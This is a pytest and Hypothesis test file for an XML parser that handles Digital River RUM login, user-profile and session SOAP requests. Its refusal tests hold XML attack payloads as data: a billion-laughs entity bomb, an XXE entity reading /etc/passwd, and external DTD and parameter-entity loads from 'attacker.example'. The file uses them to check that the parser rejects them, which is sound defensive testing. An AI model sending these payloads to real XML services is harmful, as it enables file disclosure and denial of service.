"""sso_bridge.rum.xml: lenient, safe parsing of DR's RUM requests and rendering of our answers."""

from __future__ import annotations

from xml.etree.ElementTree import Element

import defusedxml.ElementTree as SafeET
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sso_bridge.rum.messages import (
    RUM_NAMESPACE,
    Address,
    Attribute,
    CreateUserProfileRequest,
    GetUserProfileRequest,
    GetUserProfileResponse,
    LoginRequest,
    LoginResponse,
    RumRequest,
    RumResponse,
    UserInfo,
    UserKey,
    ValidateSessionRequest,
)
from sso_bridge.rum.xml import (
    SOAP_NAMESPACES,
    RumXmlError,
    UnknownOperation,
    parse_document,
    render_document,
)

NS = RUM_NAMESPACE
XSI = "http://www.w3.org/2001/XMLSchema-instance"

# rum.md, "1. RemoteLogin", verbatim.
DR_LOGIN_SAMPLE = b"""<ns1:LoginRequest xmlns:ns1="http://integration.digitalriver.com/RemoteUserManagement/1.0"
    xmlns:ns2="http://integration.digitalriver.com/Common/1.0"
    xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
    xmlns:xsd="http://www.w3.org/2001/XMLSchema">
  <userKey xsi:type="ns2:UserKey">
    <userID xsi:type="xsd:string" xsi:nil="true"/>
    <externalReferenceID xsi:type="xsd:string" xsi:nil="true"/>
    <companyID xsi:type="xsd:string" xsi:nil="true"/>
    <loginID xsi:type="xsd:string">demo@example.com</loginID>
    <siteID xsi:type="xsd:string" xsi:nil="true"/>
  </userKey>
  <password xsi:type="xsd:string">123123</password>
  <extendedAttributes xsi:type="ns2:ExtendedAttributesInfoArray" xsi:nil="true"/>
</ns1:LoginRequest>"""

_HEADER = (
    f'xmlns:ns1="{NS}" xmlns:ns2="http://integration.digitalriver.com/Common/1.0" '
    f'xmlns:xsi="{XSI}" xmlns:xsd="http://www.w3.org/2001/XMLSchema"'
)


def doc(root: str, inner: str) -> bytes:
    """A request document with DR's usual namespace declarations."""
    return f"<ns1:{root} {_HEADER}>{inner}</ns1:{root}>".encode()


def soap_wrap(body: bytes, version: str) -> bytes:
    uri = SOAP_NAMESPACES[version]  # type: ignore[index]
    return (
        f'<s:Envelope xmlns:s="{uri}"><s:Header><x>ignored</x></s:Header><s:Body>'.encode()
        + body
        + b"</s:Body></s:Envelope>"
    )


DEMO_KEY = UserKey(login_id="demo@example.com")

GET_USER_SAMPLE = doc(
    "GetUserProfileRequest",
    '<userKey><externalReferenceID xsi:type="xsd:string">ERID-1</externalReferenceID>'
    "<loginID>demo@example.com</loginID></userKey>"
    '<sessionToken xsi:nil="true"/><extendedAttributes xsi:nil="true"/>',
)
VALIDATE_SAMPLE = doc(
    "ValidateSessionRequest",
    "<sessionToken>tok-1</sessionToken><extendedAttributes><item><name>sessionToken</name>"
    "<value>tok-2</value><valueDataType>string</valueDataType></item></extendedAttributes>",
)
CREATE_SAMPLE = doc(
    "CreateUserProfileRequest",
    "<userInfo><userKey><userID>123</userID><loginID>new@example.com</loginID>"
    "<siteID>headwtr</siteID></userKey><firstName>Zoë</firstName><lastName>Ørsted</lastName>"
    "<email>new@example.com</email><homePhone>+45 1234</homePhone><locale>da_DK</locale>"
    "<shippingAddress><name1>Zoë Ørsted</name1><line1>Vej 1</line1><city>København</city>"
    "<postalCode>1000</postalCode><country>DK</country><countryName>Denmark</countryName>"
    "<phoneNumber>+45 1234</phoneNumber></shippingAddress>"
    '<billingAddress xsi:nil="true"/></userInfo><password>  s3cret </password>',
)
SAMPLES = [DR_LOGIN_SAMPLE, GET_USER_SAMPLE, VALIDATE_SAMPLE, CREATE_SAMPLE]


# --- parsing: accepted documents ---------------------------------------------------------------


def test_dr_login_sample_verbatim() -> None:
    document = parse_document(DR_LOGIN_SAMPLE)
    assert document.request == LoginRequest(user_key=DEMO_KEY, password="123123")
    assert document.request.extended_attributes == ()
    assert document.namespace == NS
    assert document.soap is None


PARSE_CASES: list[tuple[str, bytes, RumRequest]] = [
    (
        "GetUserRequest alias keeps its name",
        doc("GetUserRequest", "<userKey><loginID>demo@example.com</loginID></userKey>"),
        GetUserProfileRequest(user_key=DEMO_KEY, element_name="GetUserRequest"),
    ),
    (
        "GetUserProfileRequest sample",
        GET_USER_SAMPLE,
        GetUserProfileRequest(
            user_key=UserKey(external_reference_id="ERID-1", login_id="demo@example.com")
        ),
    ),
    (
        "children in any order",
        doc(
            "LoginRequest",
            '<extendedAttributes xsi:nil="true"/><password>pw</password>'
            "<userKey><siteID>headwtr</siteID><loginID>demo@example.com</loginID>"
            "<userID>42</userID></userKey>",
        ),
        LoginRequest(
            user_key=UserKey(user_id="42", login_id="demo@example.com", site_id="headwtr"),
            password="pw",
        ),
    ),
    (
        "qualified children (any prefix, any namespace)",
        doc(
            "LoginRequest",
            "<ns2:userKey><ns2:loginID>demo@example.com</ns2:loginID></ns2:userKey>"
            '<ns1:password>pw</ns1:password><p:unknown xmlns:p="urn:x"/>',
        ),
        LoginRequest(user_key=DEMO_KEY, password="pw"),
    ),
    (
        "default-namespace document",
        f'<LoginRequest xmlns="{NS}"><userKey><loginID>demo@example.com</loginID></userKey>'
        "<password>pw</password></LoginRequest>".encode(),
        LoginRequest(user_key=DEMO_KEY, password="pw"),
    ),
    (
        "unknown elements and attributes ignored",
        doc(
            "LoginRequest",
            '<foo bar="1"><loginID>evil</loginID></foo><userKey extra="x">'
            "<loginID>demo@example.com</loginID><nickname>d</nickname></userKey>"
            "<password>pw</password><!-- comment --><?pi data?>",
        ),
        LoginRequest(user_key=DEMO_KEY, password="pw"),
    ),
    (
        "password kept verbatim, other leaves stripped",
        doc(
            "LoginRequest",
            "<userKey><loginID>\n   demo@example.com \t</loginID></userKey>"
            "<password>  pass word \t</password>",
        ),
        LoginRequest(user_key=DEMO_KEY, password="  pass word \t"),
    ),
    (
        "whitespace-only password is a password; empty one is absent",
        doc(
            "LoginRequest",
            "<userKey><loginID>demo@example.com</loginID></userKey><password>  </password>",
        ),
        LoginRequest(user_key=DEMO_KEY, password="  "),
    ),
    (
        "empty, whitespace-only and nil (true/1, old XSI namespace) are absent",
        doc(
            "LoginRequest",
            "<userKey><userID/><externalReferenceID>   </externalReferenceID>"
            '<companyID xsi:nil="1">c</companyID>'
            '<siteID xmlns:x="http://www.w3.org/1999/XMLSchema-instance" x:nil="true">s</siteID>'
            "<loginID>demo@example.com</loginID></userKey><password/>",
        ),
        LoginRequest(user_key=DEMO_KEY, password=None),
    ),
    (
        "xsi:nil=false keeps the value",
        doc(
            "LoginRequest", '<userKey><loginID xsi:nil="false">demo@example.com</loginID></userKey>'
        ),
        LoginRequest(user_key=DEMO_KEY),
    ),
    (
        "CDATA and character references",
        doc(
            "LoginRequest",
            "<userKey><loginID><![CDATA[a&b@example.com]]></loginID></userKey>"
            "<password>&lt;p&amp;w&#x3E;&#233;</password>",
        ),
        LoginRequest(user_key=UserKey(login_id="a&b@example.com"), password="<p&w>é"),
    ),
    (
        "extended attributes: default type, nameless items skipped, nil value",
        doc(
            "LoginRequest",
            "<userKey><loginID>demo@example.com</loginID></userKey><extendedAttributes>"
            "<item><name>a</name><value> 1 </value><valueDataType>int</valueDataType></item>"
            '<item><name>b</name><value xsi:nil="true"/></item>'
            "<item><value>orphan</value></item>"
            '<item xsi:nil="true"/>'
            "<ns2:item><ns2:name>c</ns2:name><ns2:value>3</ns2:value></ns2:item>"
            "</extendedAttributes>",
        ),
        LoginRequest(
            user_key=DEMO_KEY,
            extended_attributes=(
                Attribute("a", "1", "int"),
                Attribute("b", None),
                Attribute("c", "3"),
            ),
        ),
    ),
    (
        "login fields directly under the root (lenient)",
        doc("LoginRequest", "<loginID>demo@example.com</loginID><password>pw</password>"),
        LoginRequest(user_key=DEMO_KEY, password="pw"),
    ),
    (
        "ValidateSessionRequest: element token and attribute token",
        VALIDATE_SAMPLE,
        ValidateSessionRequest(
            session_token="tok-1",
            extended_attributes=(Attribute("sessionToken", "tok-2"),),
        ),
    ),
    (
        "SessionValidationRequest alias with userKey",
        doc(
            "SessionValidationRequest",
            "<userKey><siteID>headwtr</siteID></userKey><sessionToken> tok </sessionToken>",
        ),
        ValidateSessionRequest(
            session_token="tok",
            user_key=UserKey(site_id="headwtr"),
            element_name="SessionValidationRequest",
        ),
    ),
    (
        "RemoteSessionValidationRequest alias, nil token",
        doc("RemoteSessionValidationRequest", '<sessionToken xsi:nil="true"/>'),
        ValidateSessionRequest(element_name="RemoteSessionValidationRequest"),
    ),
    (
        "CreateUserProfileRequest: full userInfo, verbatim password",
        CREATE_SAMPLE,
        CreateUserProfileRequest(
            user_info=UserInfo(
                user_key=UserKey(user_id="123", login_id="new@example.com", site_id="headwtr"),
                first_name="Zoë",
                last_name="Ørsted",
                email="new@example.com",
                home_phone="+45 1234",
                locale="da_DK",
                shipping_address=Address(
                    name1="Zoë Ørsted",
                    line1="Vej 1",
                    city="København",
                    postal_code="1000",
                    country="DK",
                    country_name="Denmark",
                    phone_number="+45 1234",
                ),
            ),
            password="  s3cret ",
        ),
    ),
    (
        "CreateUserRequest alias with the fields directly under the root (lenient)",
        doc(
            "CreateUserRequest",
            "<userKey><loginID>new@example.com</loginID></userKey><email>new@example.com</email>"
            "<firstName>Ann</firstName><billingAddress><name1>Ann</name1><name2/><companyName>"
            "ACME</companyName><line2>l2</line2><line3>l3</line3><state>CA</state>"
            "<email>b@example.com</email></billingAddress>"
            "<shippingAddress><name1> </name1></shippingAddress><password>pw</password>",
        ),
        CreateUserProfileRequest(
            user_info=UserInfo(
                user_key=UserKey(login_id="new@example.com"),
                first_name="Ann",
                email="new@example.com",
                billing_address=Address(
                    name1="Ann",
                    company_name="ACME",
                    line2="l2",
                    line3="l3",
                    state="CA",
                    email="b@example.com",
                ),
            ),
            password="pw",
            element_name="CreateUserRequest",
        ),
    ),
    (
        "userInfo wins over root-level fallbacks",
        doc(
            "CreateUserProfileRequest",
            "<email>root@example.com</email><userInfo><email>info@example.com</email></userInfo>",
        ),
        CreateUserProfileRequest(user_info=UserInfo(email="info@example.com")),
    ),
]


@pytest.mark.parametrize(
    ("body", "expected"),
    [pytest.param(body, expected, id=name) for name, body, expected in PARSE_CASES],
)
def test_parse_cases(body: bytes, expected: RumRequest) -> None:
    assert parse_document(body).request == expected


@pytest.mark.parametrize(
    ("body", "expected_first_name"),
    [
        pytest.param(
            '<?xml version="1.0" encoding="UTF-8"?>'
            f'<ns1:CreateUserProfileRequest xmlns:ns1="{NS}"><userInfo><firstName>'
            "Zoë 李 😀</firstName></userInfo></ns1:CreateUserProfileRequest>".encode(),
            "Zoë 李 😀",
            id="utf-8 declared",
        ),
        pytest.param(
            f'<ns1:CreateUserProfileRequest xmlns:ns1="{NS}"><userInfo><firstName>'
            "Zoë 李</firstName></userInfo></ns1:CreateUserProfileRequest>".encode(),
            "Zoë 李",
            id="utf-8 undeclared",
        ),
        pytest.param(
            '<?xml version="1.0" encoding="ISO-8859-1"?>'
            f'<ns1:CreateUserProfileRequest xmlns:ns1="{NS}"><userInfo><firstName>'
            "Zoë Ørsted Müller</firstName></userInfo></ns1:CreateUserProfileRequest>".encode(
                "iso-8859-1"
            ),
            "Zoë Ørsted Müller",
            id="iso-8859-1 declared",
        ),
        pytest.param(
            '<?xml version="1.0" encoding="UTF-16"?>'
            f'<ns1:CreateUserProfileRequest xmlns:ns1="{NS}"><userInfo><firstName>'
            "Zoë 李</firstName></userInfo></ns1:CreateUserProfileRequest>".encode("utf-16"),
            "Zoë 李",
            id="utf-16 with BOM",
        ),
    ],
)
def test_non_ascii_names(body: bytes, expected_first_name: str) -> None:
    request = parse_document(body).request
    assert isinstance(request, CreateUserProfileRequest)
    assert request.user_info.first_name == expected_first_name


def test_http_charset_applies_only_without_declaration() -> None:
    body = doc("LoginRequest", "<password>pässwörd</password>").decode()
    latin1 = body.encode("iso-8859-1")
    request = parse_document(latin1, charset="ISO-8859-1").request
    assert isinstance(request, LoginRequest)
    assert request.password == "pässwörd"
    with pytest.raises(RumXmlError):  # without the charset, Latin-1 bytes are not UTF-8
        parse_document(latin1)
    declared = b'<?xml version="1.0" encoding="UTF-8"?>' + body.encode()
    request = parse_document(declared, charset="ISO-8859-1").request  # declaration wins
    assert isinstance(request, LoginRequest)
    assert request.password == "pässwörd"


@pytest.mark.parametrize("version", ["1.1", "1.2"])
def test_soap_round_trip(version: str) -> None:
    document = parse_document(soap_wrap(DR_LOGIN_SAMPLE, version))
    assert document.soap == version
    assert document.namespace == NS
    assert document.request == LoginRequest(user_key=DEMO_KEY, password="123123")
    out = render_document(
        LoginResponse(successful=True, user_key=DEMO_KEY),
        namespace=document.namespace,
        soap=document.soap,
    )
    envelope = SafeET.fromstring(out)
    uri = SOAP_NAMESPACES[version]
    assert envelope.tag == f"{{{uri}}}Envelope"
    assert [child.tag for child in envelope] == [f"{{{uri}}}Body"]
    (response,) = list(envelope[0])
    assert response.tag == f"{{{NS}}}LoginResponse"
    assert [child.tag for child in response] == ["successful", "userKey"]


def test_soap_envelope_of_unknown_version_is_not_unwrapped() -> None:
    body = (
        b'<s:Envelope xmlns:s="urn:not-soap"><s:Body>' + DR_LOGIN_SAMPLE + b"</s:Body></s:Envelope>"
    )
    with pytest.raises(UnknownOperation):
        parse_document(body)


@pytest.mark.parametrize(
    ("body", "namespace"),
    [
        (DR_LOGIN_SAMPLE, NS),
        (DR_LOGIN_SAMPLE.replace(NS.encode(), b"urn:dr:rum:test"), "urn:dr:rum:test"),
        (b"<LoginRequest><loginID>demo@example.com</loginID></LoginRequest>", RUM_NAMESPACE),
    ],
    ids=["dr", "other namespace", "no namespace"],
)
def test_response_namespace_mirrors_request(body: bytes, namespace: str) -> None:
    document = parse_document(body)
    assert document.namespace == namespace
    out = render_document(LoginResponse(successful=False), namespace=document.namespace, soap=None)
    assert SafeET.fromstring(out).tag == f"{{{namespace}}}LoginResponse"


# --- rendering -----------------------------------------------------------------------------------


def children(element: Element) -> list[str]:
    return [child.tag for child in element]


def render(response: RumResponse) -> Element:
    out = render_document(response, namespace=NS, soap=None)
    assert out.startswith(b"<?xml version='1.0' encoding='utf-8'?>")
    assert b"xsi:type" not in out
    root: Element = SafeET.fromstring(out)
    assert root.tag == f"{{{NS}}}{response.element_name}"
    return root


FULL_KEY = UserKey(
    user_id="1", external_reference_id="ERID", company_id="c", login_id="l", site_id="s"
)
FULL_ADDRESS = Address(
    name1="n1",
    name2="n2",
    company_name="cn",
    line1="l1",
    line2="l2",
    line3="l3",
    city="ci",
    state="st",
    postal_code="pc",
    country="DK",
    country_name="Denmark",
    email="e@example.com",
    phone_number="p",
)
ADDRESS_ORDER = [
    "name1",
    "name2",
    "companyName",
    "line1",
    "line2",
    "line3",
    "city",
    "state",
    "postalCode",
    "country",
    "countryName",
    "email",
    "phoneNumber",
]
KEY_ORDER = ["userID", "companyID", "loginID", "externalReferenceID", "siteID"]  # DR sample order


def test_render_login_success_matches_dr_sample_shape() -> None:
    root = render(
        LoginResponse(
            successful=True,
            user_key=UserKey(
                login_id="demo@example.com",
                external_reference_id="D05B4D68-F49D-11DA-8019-88F835DA4C6C",
                site_id="headwtr",
            ),
            extended_attributes=(Attribute("crmSession", "F3CB68D6/8443"),),
        )
    )
    assert children(root) == ["successful", "userKey", "extendedAttributes"]
    assert root.findtext("successful") == "true"
    assert children(root[1]) == ["loginID", "externalReferenceID", "siteID"]
    assert root.findtext("userKey/externalReferenceID") == "D05B4D68-F49D-11DA-8019-88F835DA4C6C"
    item = root.find("extendedAttributes/item")
    assert item is not None
    assert children(item) == ["name", "value", "valueDataType"]
    assert [c.text for c in item] == ["crmSession", "F3CB68D6/8443", "string"]


def test_render_login_failure_and_full_key_order() -> None:
    root = render(
        LoginResponse(
            successful=False,
            error_code="5",
            error_message="Invalid login",
            user_key=FULL_KEY,
            element_name="CreateUserProfileResponse",
        )
    )
    assert children(root) == ["successful", "errorCode", "errorMessage", "userKey"]
    assert [root.findtext(t) for t in ("successful", "errorCode", "errorMessage")] == [
        "false",
        "5",
        "Invalid login",
    ]
    assert children(root[3]) == KEY_ORDER


def test_render_empty_user_key_and_attribute_without_value() -> None:
    root = render(
        LoginResponse(
            successful=True,
            user_key=UserKey(),
            extended_attributes=(Attribute("a", None, "int"), Attribute("b", "")),
            element_name="ValidateSessionResponse",
        )
    )
    assert children(root) == ["successful", "userKey", "extendedAttributes"]
    assert children(root[1]) == []
    items = root.findall("extendedAttributes/item")
    assert [[c.text for c in item] for item in items] == [["a", None, "int"], ["b", None, "string"]]


def test_render_get_user_profile_full() -> None:
    info = UserInfo(
        user_key=FULL_KEY,
        first_name="Zoë",
        last_name="李",
        email="e@example.com",
        home_phone="h",
        locale="da_DK",
        shipping_address=FULL_ADDRESS,
        billing_address=Address(city="Aarhus"),
    )
    out = render_document(GetUserProfileResponse(user_info=info), namespace=NS, soap=None)
    assert b"xmlns:xsi" not in out  # declared only when xsi:nil is used
    root = SafeET.fromstring(out)
    assert children(root) == ["userInfo", "errorMessage"]
    error_message = root.find("errorMessage")
    assert error_message is not None and not error_message.text  # present and empty
    user_info = root[0]
    assert children(user_info) == [
        "userKey",
        "firstName",
        "lastName",
        "email",
        "homePhone",
        "locale",
        "shippingAddress",
        "billingAddress",
    ]
    assert children(user_info[0]) == KEY_ORDER
    assert children(user_info[6]) == ADDRESS_ORDER
    assert children(user_info[7]) == ["city"]
    assert user_info.findtext("firstName") == "Zoë"
    assert user_info.findtext("lastName") == "李"


def test_render_get_user_profile_partial_info_omits_absent() -> None:
    root = render(
        GetUserProfileResponse(
            user_info=UserInfo(user_key=UserKey(external_reference_id="E"), email="e@x"),
            element_name="GetUserResponse",
            extended_attributes=(Attribute("k", "v"),),
        )
    )
    assert children(root) == ["userInfo", "errorMessage", "extendedAttributes"]
    assert children(root[0]) == ["userKey", "email"]


def test_render_get_user_profile_nil_user_info() -> None:
    out = render_document(
        GetUserProfileResponse(user_info=None, error_message="User not active"),
        namespace=NS,
        soap=None,
    )
    root = SafeET.fromstring(out)
    assert children(root) == ["userInfo", "errorMessage"]
    assert root[0].get(f"{{{XSI}}}nil") == "true"
    assert len(root[0]) == 0
    assert root.findtext("errorMessage") == "User not active"


def test_render_escapes_and_replaces_characters_xml_cannot_carry() -> None:
    out = render_document(
        LoginResponse(
            successful=False,
            error_message='<b>&"quoted"</b>\x00\x1f\ud800ok',
            user_key=UserKey(login_id="]]>"),
        ),
        namespace=NS,
        soap=None,
    )
    root = SafeET.fromstring(out)
    assert root.findtext("errorMessage") == '<b>&"quoted"</b>\ufffd\ufffd\ufffdok'
    assert root.findtext("userKey/loginID") == "]]>"


def test_render_without_namespace_is_unqualified() -> None:
    out = render_document(LoginResponse(successful=True), namespace="", soap=None)
    assert SafeET.fromstring(out).tag == "LoginResponse"


# --- refusals ------------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<LoginRequest><password>&lol9;</password></LoginRequest>"""


def nested(depth: int) -> bytes:
    return doc("LoginRequest", "<a>" * (depth - 1) + "</a>" * (depth - 1))


REFUSALS = [
    pytest.param(
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY pw "secret">]>'
        b"<LoginRequest><password>&pw;</password></LoginRequest>",
        id="DTD with internal entity",
    ),
    pytest.param(
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b"<LoginRequest><password>&xxe;</password></LoginRequest>",
        id="external entity",
    ),
    pytest.param(
        b'<!DOCTYPE LoginRequest SYSTEM "http://attacker.example/x.dtd"><LoginRequest/>',
        id="external DTD",
    ),
    pytest.param(
        b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><LoginRequest/>',
        id="parameter entity",
    ),
    pytest.param(b"<LoginRequest>&undefined;</LoginRequest>", id="undeclared entity"),
    pytest.param(BILLION_LAUGHS, id="billion laughs"),
    pytest.param(nested(33), id="too deep"),
    pytest.param(nested(100_000), id="very deep"),
    pytest.param(soap_wrap(nested(31), "1.1"), id="too deep inside SOAP"),
    pytest.param(b"not xml at all", id="not XML"),
    pytest.param(b'{"loginID": "x"}', id="JSON"),
    pytest.param(b"", id="empty body"),
    pytest.param(b" \r\n\t", id="whitespace body"),
    pytest.param(DR_LOGIN_SAMPLE[:-5], id="truncated"),
    pytest.param(DR_LOGIN_SAMPLE + b"<x/>", id="junk after the root"),
    pytest.param(b"<x:LoginRequest/>", id="undeclared prefix"),
    pytest.param(
        b'<?xml version="1.0" encoding="no-such-codec"?><LoginRequest/>', id="bad encoding"
    ),
    pytest.param(b"<LoginRequest>\xff\xfe</LoginRequest>", id="invalid UTF-8"),
    pytest.param(b"<LoginRequest>\x01</LoginRequest>", id="control character"),
    pytest.param(
        soap_wrap(b"", "1.1"),
        id="empty SOAP Body",
    ),
    pytest.param(
        f'<s:Envelope xmlns:s="{SOAP_NAMESPACES["1.2"]}"><s:Header/></s:Envelope>'.encode(),
        id="SOAP without Body",
    ),
    pytest.param(
        doc("LoginRequest", "<userKey><loginID>a</loginID><loginID>b</loginID></userKey>"),
        id="duplicate loginID",
    ),
    pytest.param(
        doc("LoginRequest", "<userKey/><userKey/>"),
        id="duplicate userKey",
    ),
]


@pytest.mark.parametrize("body", REFUSALS)
def test_refusals(body: bytes) -> None:
    with pytest.raises(RumXmlError) as caught:
        parse_document(body)
    assert caught.value.code == "invalid-request"
    assert caught.value.description
    assert caught.value.__cause__ is None
    assert caught.value.__suppress_context__ or caught.value.__context__ is None


def test_depth_limit_is_configurable() -> None:
    assert parse_document(nested(32)).request == LoginRequest(user_key=UserKey())
    with pytest.raises(RumXmlError):
        parse_document(nested(5), max_depth=4)
    assert parse_document(nested(5), max_depth=5)


@pytest.mark.parametrize(
    "root", ["LoginResponse", "Fault", "loginrequest", "GetUserProfile", "ExtraLoginRequest"]
)
def test_unknown_root(root: str) -> None:
    with pytest.raises(UnknownOperation) as caught:
        parse_document(doc(root, "<password>pw</password>"))
    assert isinstance(caught.value, RumXmlError)
    assert caught.value.element_name == root
    assert root not in caught.value.description


@pytest.mark.parametrize(
    "body",
    [
        doc(
            "LoginRequest", "<password>hunter2-secret</password><password>hunter2-secret</password>"
        ),
        doc("LoginRequest", "<password>hunter2-secret</password><broken"),
        b'<!DOCTYPE r [<!ENTITY e "hunter2-secret">]><LoginRequest/>',
        b'<!DOCTYPE r [<!ENTITY e SYSTEM "file:///hunter2-secret">]><LoginRequest>&e;</LoginRequest>',
    ],
    ids=["duplicate password", "malformed", "entity value", "entity system id"],
)
def test_errors_never_echo_the_body(body: bytes) -> None:
    with pytest.raises(RumXmlError) as caught:
        parse_document(body)
    assert "hunter2" not in str(caught.value)
    assert "hunter2" not in repr(caught.value)
    assert "hunter2" not in caught.value.description


# --- fuzzing -------------------------------------------------------------------------------------

FUZZ = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def _check_never_crashes(body: bytes) -> None:
    try:
        document = parse_document(body)
    except RumXmlError as exc:
        assert exc.description
        return
    # whatever parsed must also be answerable
    render_document(
        LoginResponse(successful=False), namespace=document.namespace, soap=document.soap
    )


@FUZZ
@given(st.binary(max_size=2048))
def test_fuzz_arbitrary_bytes(body: bytes) -> None:
    _check_never_crashes(body)


@st.composite
def mutated_samples(draw: st.DrawFn) -> bytes:
    data = bytearray(draw(st.sampled_from(SAMPLES + [soap_wrap(s, "1.1") for s in SAMPLES])))
    for _ in range(draw(st.integers(1, 8))):
        op = draw(st.sampled_from(["flip", "insert", "delete", "truncate", "duplicate"]))
        if not data:
            break
        at = draw(st.integers(0, len(data) - 1))
        if op == "flip":
            data[at] = draw(st.integers(0, 255))
        elif op == "insert":
            data[at:at] = draw(
                st.sampled_from(
                    [
                        b"<",
                        b">",
                        b"&",
                        b"&amp;",
                        b"]]>",
                        b"<!DOCTYPE x>",
                        b'xsi:nil="true" ',
                        b"\x00",
                        b"\xc3",
                        b"\xff\xfe",
                        b"<a>",
                        b"</a>",
                        b"<password>x</password>",
                    ]
                )
                | st.binary(max_size=16)
            )
        elif op == "delete":
            del data[at : at + draw(st.integers(1, 32))]
        elif op == "truncate":
            del data[at:]
        else:
            end = draw(st.integers(at, min(len(data), at + 200)))
            data[end:end] = data[at:end]
    return bytes(data)


@FUZZ
@given(mutated_samples())
def test_fuzz_mutated_samples(body: bytes) -> None:
    _check_never_crashes(body)


NAMES = [
    "LoginRequest", "GetUserRequest", "ValidateSessionRequest", "CreateUserProfileRequest",
    "userKey", "userInfo", "loginID", "userID", "externalReferenceID", "password", "sessionToken",
    "extendedAttributes", "item", "name", "value", "valueDataType", "shippingAddress",
    "billingAddress", "city", "email", "Envelope", "Body", "Header", "unknown",
]  # fmt: skip


@st.composite
def element_trees(draw: st.DrawFn, depth: int = 0) -> str:
    name = draw(st.sampled_from(NAMES))
    prefix = draw(st.sampled_from(["", "ns1:", "ns2:", "s:"]))
    attrs = draw(st.sampled_from(["", ' xsi:nil="true"', ' xsi:nil="1"', ' xsi:type="xsd:string"']))
    if depth >= 4 or draw(st.booleans()):
        text = draw(
            st.text(st.characters(codec="utf-8", exclude_categories=["Cs", "Cc"]), max_size=8)
        )
        text = text.replace("&", "&amp;").replace("<", "&lt;")
        inner = text
    else:
        inner = "".join(draw(st.lists(element_trees(depth + 1), max_size=4)))
    return f"<{prefix}{name}{attrs}>{inner}</{prefix}{name}>"


@FUZZ
@given(
    st.sampled_from(["", "ns1:", "s:"]), st.sampled_from([*NAMES[:4], "Envelope"]), element_trees()
)
def test_fuzz_structured_documents(prefix: str, root: str, inner: str) -> None:
    soap = SOAP_NAMESPACES["1.1"]
    body = (
        f'<{prefix}{root} xmlns:ns1="{NS}" xmlns:ns2="urn:c" xmlns:s="{soap}" xmlns:xsi="{XSI}" '
        f'xmlns:xsd="http://www.w3.org/2001/XMLSchema">{inner}</{prefix}{root}>'
    )
    _check_never_crashes(body.encode())
